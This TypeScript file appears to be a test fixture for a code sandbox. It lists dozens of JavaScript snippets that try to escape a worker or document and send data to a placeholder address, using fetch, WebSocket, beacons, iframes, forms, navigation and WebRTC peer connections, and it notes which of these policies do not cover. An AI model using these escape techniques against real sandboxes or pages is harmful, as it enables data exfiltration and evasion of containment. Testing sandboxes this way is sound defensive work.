// Attempts of code to leave a worker or a document, and to reach an address or storage. Each is a program that ends
// with the address `LEAK`, or one that reads forbidden data. Its output starts with `reached` if it succeeds.
type Escapes = Readonly<Record<string, string>>;

/** Attempts for both workers and documents. */
const BOTH: Escapes = {
  fetch: 'await fetch(LEAK, { mode: "no-cors" })',
  'fetch with keepalive': 'await fetch(LEAK, { mode: "no-cors", keepalive: true, method: "POST", body: "x" })',
  XMLHttpRequest: 'const x = new XMLHttpRequest(); x.open("GET", LEAK, false); x.send()',
  WebSocket: 'new WebSocket(LEAK.replace("http", "ws"))',
  WebSocketStream: 'await new WebSocketStream(LEAK.replace("http", "ws")).opened',
  WebTransport: 'await new WebTransport(LEAK.replace("http:", "https:")).ready',
  EventSource: 'new EventSource(LEAK)',
  sendBeacon: 'navigator.sendBeacon(LEAK, "x")',
  'import by address': 'await import(/* here */ LEAK)',
  'import inside a blob':
    'await import(URL.createObjectURL(new Blob([`import ${JSON.stringify(LEAK)}`], { type: "text/javascript" })))',
  eval: 'await eval("import(LEAK)")',
  Function: 'await new Function("a", "return import(a)")(LEAK)',
  'a worker by address': 'new Worker(LEAK)',
  'a worker from a blob':
    'new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(LEAK)},{mode:"no-cors"});importScripts(${JSON.stringify(LEAK)})`])))',
  'a shared worker': 'new SharedWorker(LEAK)',
  'a service worker': 'await navigator.serviceWorker.register(LEAK)',
  importScripts: 'importScripts(LEAK)',
  'streamed WebAssembly': 'await WebAssembly.instantiateStreaming(fetch(LEAK))',
  'a font': 'await new FontFace("x", `url(${LEAK})`).load()',
  indexedDB:
    'await new Promise((yes, no) => { const r = indexedDB.open("x"); r.onsuccess = yes; r.onerror = no; }); console.log("reached indexedDB")',
  caches: 'await caches.open("x"); console.log("reached caches")',
  'the origin private file system': 'await navigator.storage.getDirectory(); console.log("reached files")',
  BroadcastChannel: 'new BroadcastChannel("x").postMessage(1)',
};

const IN_DOCUMENT: Escapes = {
  localStorage: 'localStorage.setItem("x", "1"); console.log("reached localStorage")',
  sessionStorage: 'sessionStorage.setItem("x", "1"); console.log("reached sessionStorage")',
  cookies: 'document.cookie = "x=1"; if (document.cookie) console.log("reached cookies")',
  'the page': 'parent.parent.document.title; console.log("reached the page")',
  'the document around': 'parent.document.title; console.log("reached the document around")',
  'storage of the page': 'top.localStorage.length; console.log("reached storage of the page")',
  'a link to a new window': 'Object.assign(document.createElement("a"), { href: LEAK, target: "_blank" }).click()',
  'a link with ping':
    'Object.assign(document.body.appendChild(document.createElement("a")), { href: "#x", ping: LEAK }).click()',
  'a download': 'Object.assign(document.createElement("a"), { href: LEAK, download: "x" }).click()',
  'an image': 'new Image().src = LEAK',
  'an audio': 'new Audio(LEAK).play().catch(() => 0)',
  'a style of CSS': 'document.body.style.background = `url(${LEAK})`',
  'a frame': 'document.body.appendChild(document.createElement("iframe")).src = LEAK',
  'an empty frame': `const w = document.body.appendChild(document.createElement("iframe")).contentWindow;
    w.fetch(LEAK, { mode: "no-cors" }).catch(() => 0); new w.WebSocket(LEAK.replace("http", "ws")); w.navigator.sendBeacon(LEAK)`,
  'a frame with a document of its own': `const f = document.createElement("iframe");
    f.srcdoc = '<img src="' + LEAK + '"><script>fetch("' + LEAK + '")</' + 'script>'; document.body.append(f)`,
  'a frame from a blob': `const f = document.createElement("iframe");
    f.src = URL.createObjectURL(new Blob(['<img src="' + LEAK + '">'], { type: 'text/html' })); document.body.append(f)`,
  'a frame from data': `document.body.appendChild(document.createElement("iframe")).src = 'data:text/html,<img src="' + LEAK + '">'`,
  'an object': 'document.body.appendChild(document.createElement("object")).data = LEAK',
  'an embed': 'document.body.appendChild(document.createElement("embed")).src = LEAK',
  'a script': 'document.body.appendChild(document.createElement("script")).src = LEAK',
  'a module script':
    'document.body.append(Object.assign(document.createElement("script"), { type: "module", src: LEAK }))',
  'rules of speculation': `document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules',
    textContent: JSON.stringify({ prefetch: [{ urls: [LEAK], eagerness: 'immediate' }], prerender: [{ urls: [LEAK], eagerness: 'immediate' }] }) }))`,
  ...Object.fromEntries(
    [
      'stylesheet',
      'preconnect',
      'dns-prefetch',
      'preload',
      'prefetch',
      'prerender',
      'modulepreload',
      'manifest',
      'icon',
    ].map((rel) => [
      `a link of ${rel}`,
      `const l = document.createElement("link"); l.rel = "${rel}"; l.as = "script"; l.href = LEAK; document.head.append(l)`,
    ]),
  ),
  'a base': `document.head.append(Object.assign(document.createElement('base'), { href: LEAK })); new Image().src = 'x.png'`,
};

/** Attempts to show the address in another window, or instead of the page, which would end all other attempts. */
const LEAVING: Escapes = {
  'top.location': 'top.location = LEAK',
  'top.location.replace': 'top.location.replace(LEAK)',
  'parent.location': 'parent.location = LEAK',
  'window.open': 'open(LEAK)',
  'window.open into the top': 'open(LEAK, "_top")',
  'window.open into the parent': 'open(LEAK, "_parent")',
  'a link to the top': 'Object.assign(document.createElement("a"), { href: LEAK, target: "_top" }).click()',
  'a form':
    'const f = document.body.appendChild(document.createElement("form")); f.action = LEAK; f.method = "post"; f.submit()',
  'a form of the top':
    'const f = document.body.appendChild(document.createElement("form")); f.action = LEAK; f.target = "_top"; f.submit()',
};

/** Peer connections, which no enforced policy directive covers. */
export const PEERS: Escapes = {
  'a peer connection': `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(LEAK).host }] });
    p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await new Promise((yes) => setTimeout(yes, 400))`,
  'a peer connection of an empty frame': `const w = document.body.appendChild(document.createElement("iframe")).contentWindow;
    const p = new w.RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(LEAK).host }] });
    p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await new Promise((yes) => setTimeout(yes, 400))`,
  ...Object.fromEntries(
    Object.entries({
      'a frame': 'document.body.append(f)',
      'a frame in a shadow root':
        'document.body.appendChild(document.createElement("div")).attachShadow({ mode: "closed" }).append(f)',
      'a frame in markup': 'document.body.appendChild(document.createElement("div")).innerHTML = f.outerHTML',
      'a frame in a shadow root of markup':
        'document.body.appendChild(document.createElement("div")).setHTMLUnsafe(`<template shadowrootmode="closed">${f.outerHTML}</template>`)',
      'a frame that is written': 'document.write(f.outerHTML)',
    }).map(([name, insert]) => [
      `a peer connection of ${name} with a document of its own`,
      `const f = document.createElement('iframe');
      f.srcdoc = '<script>const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:' + new URL(LEAK).host + '" }] });' +
        'p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o))</' + 'script>';
      ${insert};
      await new Promise((yes) => setTimeout(yes, 400))`,
    ]),
  ),
};

/** Attempts to navigate the document itself. A refused navigation leaves an empty document. */
export const NAVIGATIONS: Escapes = {
  // `npm test` tries the first. A document that leaves by `location` waits for the limit of its program.
  'a frame in markup': 'document.body.innerHTML = `<iframe src="${LEAK}"></iframe>`',
  'its own address': 'location.href = LEAK',
  'location.replace': 'location.replace(LEAK)',
  'a link':
    'document.body.append(Object.assign(document.createElement("a"), { href: LEAK })); document.links[0].click()',
  'a refresh': `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + LEAK }))`,
};

/** Attempts for which the complete Chromium connects to the other host, without sending a byte, before it checks the
 *  policies. A document cannot be without `location`, and its scripts can write markup. */
export const CONNECTING: readonly string[] = ['its own address', 'location.replace', 'a frame in markup'];

const LINK = 'document.body.insertAdjacentHTML("beforeend", `<a href="${LEAK}"><b>Buka</b></a>`)';
const INNER = 'document.body.lastElementChild.firstElementChild';
const FORM = 'document.body.insertAdjacentHTML("beforeend", `<form action="${LEAK}"><button>Kirim</button></form>`)';
const SHADOW = 'const root = document.body.appendChild(document.createElement("div")).attachShadow({ mode: "closed" })';
const DISPATCH = 'dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }))';

/** Links, forms and refreshes, which are removed from a document, so that the document stays. */
export const FOLLOWED: Escapes = {
  'an element in a link': `${LINK}; ${INNER}.click()`,
  'an event of a link': `${LINK}; ${INNER}.${DISPATCH}`,
  'a link that stops its event': `${LINK}; document.body.lastElementChild.onclick = (e) => e.stopPropagation(); ${INNER}.click()`,
  'a link that cancels its bubbling': `${LINK}; document.body.lastElementChild.onclick = (e) => { e.cancelBubble = true; }; ${INNER}.click()`,
  'a link with a base': `document.head.insertAdjacentHTML("beforeend", \`<base href="\${LEAK}">\`);
    document.body.append(Object.assign(document.createElement("a"), { href: "#x" })); document.body.lastElementChild.click();
    document.querySelector("base").remove()`,
  'a link outside of the document': `document.createElement("p").appendChild(Object.assign(document.createElement("a"), { href: LEAK })).click()`,
  'a link in a shadow root': `${SHADOW}; root.innerHTML = \`<a href="\${LEAK}"><b>Buka</b></a>\`; root.querySelector("b").click()`,
  'a link of SVG': `document.body.insertAdjacentHTML("beforeend", \`<svg><a href="\${LEAK}"><text>Buka</text></a></svg>\`);
    document.querySelector("text").${DISPATCH}`,
  'the button of a form': `${FORM}; ${INNER}.click()`,
  'a form that is asked': `${FORM}; document.body.lastElementChild.requestSubmit()`,
  'a form that stops its event': `${FORM}; document.body.lastElementChild.onsubmit = (e) => e.stopImmediatePropagation(); ${INNER}.click()`,
  'a form in a shadow root': `${SHADOW}; root.innerHTML = \`<form action="\${LEAK}"><button>Kirim</button></form>\`; root.querySelector("button").click()`,
  'a window in its place': 'open(LEAK, "_self")',
  'a refresh in markup':
    'document.head.insertAdjacentHTML("beforeend", `<meta http-equiv="Refresh" content="0;url=${LEAK}">`)',
  'a refresh after a while': `await new Promise((yes) => setTimeout(yes, 300)); document.head.append(document.createElement('meta'));
    document.head.lastChild.content = '0;url=' + LEAK; document.head.lastChild.setAttribute('http-equiv', 'refresh')`,
};

export const WORKER_ESCAPES: Escapes = BOTH;
/** Attempts that keep the document, even if they succeed. */
export const STAYING_ESCAPES: Escapes = { ...BOTH, ...IN_DOCUMENT };
export const DOCUMENT_ESCAPES: Escapes = { ...STAYING_ESCAPES, ...LEAVING };

/** Run all attempts one after another; each prints its result. */
export function toEscapeProgram(escapes: Escapes, address: string): string {
  return Object.entries(escapes)
    .map(
      ([name, code]) => `try {
  const LEAK = ${JSON.stringify(`${address}/rahasia`)} + '?' + ${JSON.stringify(encodeURIComponent(name))};
  await Promise.race([(async () => { ${code} })(), new Promise((yes) => setTimeout(yes, 1500))]);
  console.log('done: ${name}');
} catch (error) { console.log('refused: ${name}: ' + (error && error.name)); }`,
    )
    .join('\n');
}
